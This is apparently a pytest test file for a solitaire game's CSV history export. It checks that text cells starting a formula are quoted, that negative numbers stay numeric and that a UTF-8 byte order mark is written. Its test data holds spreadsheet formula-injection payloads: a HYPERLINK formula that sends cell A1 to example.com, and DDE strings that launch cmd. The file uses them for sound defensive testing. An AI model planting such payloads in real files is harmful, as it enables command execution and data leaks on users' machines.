"""The history's CSV: no cell a spreadsheet would run as a formula, numbers kept as numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from rusol_qt.model.rules import RuleSet
from rusol_qt.storage.export import BYTE_ORDER_MARK, HEADER, write_csv
from rusol_qt.storage.history import GameRecord
from rusol_qt.storage.statistics import DealVerdict, Result

GAME = GameRecord(
    code="RU1-C-AAAAAAA",
    rules=RuleSet.CLASSIC,
    started=1_700_000_000,
    ended=1_700_000_100,
    seconds=99.94,
    moves=3,
    score=-5,
    result=Result.ABANDONED,
    takebacks=1,
    undos=2,
    actions=("QH>5", "U"),
    app_version="0.1.0",
    foundation_cards=0,
    deal_verdict=DealVerdict.UNWINNABLE,
    deal_best=17,
)


def exported(game: GameRecord) -> dict[str, str]:
    """The one data row of ``game``'s CSV, read back as a spreadsheet's import would."""
    file = io.StringIO(newline="")
    assert write_csv([game], file) == 1
    # A spreadsheet's import takes the byte order mark as the encoding's, not as text.
    text = file.getvalue().removeprefix(BYTE_ORDER_MARK)
    header, row = csv.reader(io.StringIO(text, newline=""))
    assert tuple(header) == HEADER
    return dict(zip(header, row, strict=True))


def test_an_ordinary_game_is_written_as_it_is() -> None:
    row = exported(GAME)
    assert row["code"] == "RU1-C-AAAAAAA" and row["actions"] == "QH>5 U"
    assert (row["score"], row["seconds"], row["deal_best"]) == ("-5", "99.9", "17")
    assert (row["deal_winnable"], row["app_version"]) == ("no", "0.1.0")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.com/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
@pytest.mark.parametrize("field", ["code", "app_version"])
def test_a_text_cell_that_starts_a_formula_gets_a_leading_quote(field: str, text: str) -> None:
    # The history is the player's file, and may be damaged or hostile: what it holds must not
    # reach a spreadsheet as a formula.
    changes: dict[str, Any] = {field: text}
    row = exported(replace(GAME, **changes))
    assert row[field] == "'" + text


def test_the_actions_cell_is_neutralised_too() -> None:
    row = exported(replace(GAME, actions=("=1+1", "QH>5")))
    assert row["actions"] == "'=1+1 QH>5"


def test_negative_numbers_stay_numbers() -> None:
    # Only text is quoted: a negative score must stay a number for the spreadsheet's sums.
    row = exported(replace(GAME, score=-25))
    assert row["score"] == "-25"


def test_the_file_starts_with_a_byte_order_mark_so_excel_reads_utf_8(tmp_path: Path) -> None:
    # Excel on Windows reads a CSV without one in the ANSI code page: Cyrillic and Thai would
    # come out as mojibake. The dialog opens the file as UTF-8, as here.
    path = tmp_path / "history.csv"
    with open(path, "w", encoding="utf-8", newline="") as file:
        write_csv([replace(GAME, app_version="Косынка ไพ่")], file)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfstarted,") and data.count(b"\xef\xbb\xbf") == 1
    with open(path, encoding="utf-8-sig", newline="") as file:
        header, row = csv.reader(file)
    assert tuple(header) == HEADER and "Косынка ไพ่" in row
